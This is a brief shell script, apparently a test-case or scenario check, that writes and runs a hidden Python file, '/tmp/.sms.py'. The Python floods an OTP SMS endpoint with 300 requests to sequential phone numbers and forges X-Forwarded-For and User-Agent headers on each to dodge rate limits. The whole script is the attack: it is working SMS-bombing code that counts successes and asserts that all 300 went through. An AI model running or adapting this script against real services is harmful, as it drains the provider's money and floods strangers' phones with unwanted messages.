#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.sms.py <<'END'
import http.client
done = 0
for n in range(300):
    c = http.client.HTTPConnection("203.0.113.20", 8080, timeout=3)
    c.request("POST", "/api/otp/send", f"phone=%2B88213{n:06}&channel=sms", {"X-Forwarded-For": f"198.51.100.{n % 250}", "User-Agent": f"Mozilla/5.0 (Linux; Android {n % 9 + 6})"})
    done += c.getresponse().status == 200; c.close()
assert done == 300
END
python3 /tmp/.sms.py
took_place
